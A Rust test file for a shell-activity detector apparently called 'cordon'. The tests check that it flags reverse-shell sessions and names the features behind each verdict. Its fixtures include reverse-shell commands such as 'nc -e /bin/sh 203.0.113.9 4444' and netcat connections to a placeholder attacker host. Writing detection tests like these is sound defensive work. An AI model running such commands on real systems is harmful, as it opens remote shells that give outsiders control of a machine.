//! Reasons, with models made by hand: what the model reads is known, so what it must name is too.

mod support;

use cordon_judge::Options;
use cordon_model::tokens::Field;
use cordon_proto::verdict::{Verdict, VerdictKind};
use support::{ByHand, SHELLS, shell, story};

fn texts(verdict: &Verdict) -> Vec<&str> {
    verdict
        .reasons
        .iter()
        .map(|reason| reason.text.as_str())
        .collect()
}

#[test]
fn the_parts_that_the_model_reads_are_named_and_no_others() {
    let verdict = SHELLS
        .judge(Options::default())
        .judge(&shell("r", "203.0.113.9", 4444), None);
    let mut named = texts(&verdict);
    named.sort_unstable();
    assert_eq!(
        named,
        [
            "argument -i",
            "connects to 203.0.113.9:4444 (tcp)",
            "parent process python3.11 /srv/www/app.py",
            "standard input, output and error are each a socket",
        ]
    );
}

#[test]
fn weights_add_up_to_the_fall_of_the_score() {
    let verdict = SHELLS
        .judge(Options::default())
        .judge(&shell("w", "203.0.113.9", 4444), None);
    let sum: f32 = verdict.reasons.iter().map(|reason| reason.weight).sum();
    // Everything that the model reads is named, so what is left is its bias.
    let bias = 1.0 / (1.0 + 4f32.exp());
    assert!(
        (sum - (verdict.score - bias)).abs() < 0.01,
        "{sum} of {}",
        verdict.score
    );
    assert!(verdict.reasons.is_sorted_by(|a, b| a.weight >= b.weight));
}

#[test]
fn one_line_of_a_session_is_found_among_many() {
    let mut lines = vec!["ls -la".to_owned(); 30];
    lines[17] = "nc -e /bin/sh 203.0.113.9 4444".to_owned();
    let session = cordon_behavior::story::Story {
        id: "s".into(),
        session: lines,
        ..Default::default()
    };
    let mut judge = SHELLS.judge(Options::default());
    let verdict = judge.judge(&session, None);
    assert_eq!(
        texts(&verdict),
        ["session line 18: nc -e /bin/sh 203.0.113.9 4444"]
    );
    assert!(verdict.reasons[0].weight > 0.9);
    assert!(judge.counters().occlusions <= 24);
}

#[test]
fn one_statement_of_a_command_is_found() {
    let command = story(r#"{"id":"c","command":"cd /tmp && ls; nc 203.0.113.9 4444 | cat"}"#);
    let verdict = SHELLS.judge(Options::default()).judge(&command, None);
    assert_eq!(texts(&verdict), ["shell text nc 203.0.113.9 4444"]);
}

/// Each of two parts is enough by itself, so leaving out either changes nothing.
#[test]
fn evidence_that_is_there_twice_is_still_named() {
    // Two words of one channel: the model takes the greatest, so the second adds nothing.
    let twice = ByHand {
        words: &[(Field::Command, "nc", 9.0)],
        ..ByHand::default()
    };
    let both = story(
        r#"{"id":"2","command":"nc 203.0.113.9 4444","session":["nc 203.0.113.9 4444","ls"]}"#,
    );
    let verdict = twice.judge(Options::default()).judge(&both, None);
    assert_eq!(verdict.verdict, VerdictKind::Malicious);
    let named = texts(&verdict);
    assert!(
        named.iter().any(|text| text.starts_with("shell text")),
        "{named:?}"
    );
    let sum: f32 = verdict.reasons.iter().map(|reason| reason.weight).sum();
    assert!(
        sum > 0.9,
        "{sum}: the second was left out in addition to the first"
    );
}

#[test]
fn two_lines_of_a_session_that_say_the_same_are_both_found() {
    let twice = ByHand {
        words: &[(Field::Command, "nc", 9.0)],
        ..ByHand::default()
    };
    let mut lines = vec!["ls -la".to_owned(); 12];
    lines[3] = "nc 203.0.113.9 4444".to_owned();
    lines[11] = "nc 203.0.113.9 4445".to_owned();
    let session = cordon_behavior::story::Story {
        id: "s".into(),
        session: lines,
        ..Default::default()
    };
    let verdict = twice.judge(Options::default()).judge(&session, None);
    let named = texts(&verdict);
    assert_eq!(named.len(), 2, "{named:?}");
    for line in ["nc 203.0.113.9 4444", "nc 203.0.113.9 4445"] {
        assert!(named.iter().any(|text| text.contains(line)), "{named:?}");
    }
}

#[test]
fn a_score_that_probability_cannot_tell_from_one_has_reasons() {
    let sure = ByHand {
        bias: 12.0,
        facts: &[("stdin_socket", 8.0), ("out_high_port", 8.0)],
        ..ByHand::default()
    };
    let verdict = sure
        .judge(Options::default())
        .judge(&shell("s", "203.0.113.9", 4444), None);
    let named = texts(&verdict);
    assert!(
        named.contains(&"standard input, output and error are each a socket"),
        "{named:?}"
    );
    assert!(
        named.contains(&"connects to 203.0.113.9:4444 (tcp)"),
        "{named:?}"
    );
    assert!(
        verdict
            .reasons
            .iter()
            .all(|reason| (0.0..0.01).contains(&reason.weight))
    );
}

#[test]
fn a_model_that_suspects_everything_says_so() {
    let suspects = ByHand {
        bias: 5.0,
        ..ByHand::default()
    };
    let verdict = suspects
        .judge(Options::default())
        .judge(&shell("e", "203.0.113.9", 4444), None);
    assert_eq!(
        texts(&verdict),
        ["the story as a whole; no part of it carries the score alone"]
    );
}

#[test]
fn the_bounds_are_kept() {
    for (reasons, occlusions) in [(0, 24), (1, 24), (5, 0), (5, 3), (2, 7)] {
        let mut judge = SHELLS.judge(Options {
            reasons,
            occlusions,
            ..Options::default()
        });
        let verdict = judge.judge(&shell("b", "203.0.113.9", 4444), None);
        assert!(
            verdict.reasons.len() <= reasons.max(1),
            "{:?}",
            texts(&verdict)
        );
        assert!(judge.counters().occlusions <= occlusions as u64);
        assert!(reasons == 0 || !verdict.reasons.is_empty());
    }
}
